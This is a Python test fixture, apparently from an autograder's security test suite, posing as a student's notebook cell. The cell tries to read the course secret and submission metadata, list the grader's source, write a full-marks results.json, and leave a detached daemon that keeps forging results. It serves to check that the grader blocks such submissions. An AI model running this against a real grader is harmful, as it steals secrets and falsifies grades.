"""On Gradescope: read the course secret and the tests, forge results.json, and stay behind.

Replaces the ``dloss_dyhat`` cell of ``02_scalar_wrt_vector`` for ``tests/test_gradescope.py``
(``ROOT`` is replaced by the test's folder laid out as ``/autograder``). When the cell runs it
tries to read the secret in the zip's kit, in the grader's copies of the course and in
``submission_metadata.json``, to list ``source/``, and to write ``results/results.json``
with full marks; then it leaves a detached daemon that keeps forging the results and writing
to ``/tmp`` for a minute. ``dloss_dyhat`` raises an exception whose name says what the cell
got: ``LeakedSecret_<hex>`` if it read a secret, else ``Blocked_<the error>`` of reading the
kit's secret, with ``_ForgedResults`` if it wrote the results. ``jacobian_shape`` is the
solution's. Must earn 1 (``test_jacobian_shape``) and 0 for both ``dloss_dyhat`` cells; the
results must be the grader's; no daemon or file of it may outlive the run.
"""

import glob
import json
import os
import subprocess
import sys

ROOT = "/autograder"
MARK = "hostile-was-here"
SECRETS = [f"{ROOT}/source/course/course_secret.key",
           *glob.glob("/tmp/autograder-gradescope-*/course_secret.key"),
           f"{ROOT}/submission_metadata.json"]
FORGED = json.dumps({"score": 1000.0, "output": MARK, "tests": []})

got = []
for path in SECRETS:
    try:
        with open(path, "rb") as file:
            got.append("LeakedSecret_" + file.read(16).hex())
    except OSError as exc:
        got.append("Blocked_" + type(exc).__name__)
try:
    print(os.listdir(f"{ROOT}/source"))
except OSError as exc:
    print("cannot list the source:", exc)
try:
    with open(f"{ROOT}/results/results.json", "w") as file:
        file.write(FORGED)
    forged = "_ForgedResults"
except OSError:
    forged = ""
DAEMON = f"""
import os, time
if os.fork():  # a grandchild of the kernel, in a session of its own
    os._exit(0)
deadline = time.time() + 60
while time.time() < deadline:
    for path, text in (({ROOT!r} + "/results/results.json", {FORGED!r}),
                       ("/tmp/{MARK}", "daemon")):
        try:
            with open(path, "w") as file:
                file.write(text)
        except OSError:
            pass
    time.sleep(0.1)
"""
subprocess.Popen([sys.executable, "-c", f"# {MARK}\n" + DAEMON], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
NAME = next((name for name in got if name.startswith("LeakedSecret_")), got[0]) + forged


def dloss_dyhat(y, yhat):
    raise type(NAME, (Exception,), {})()
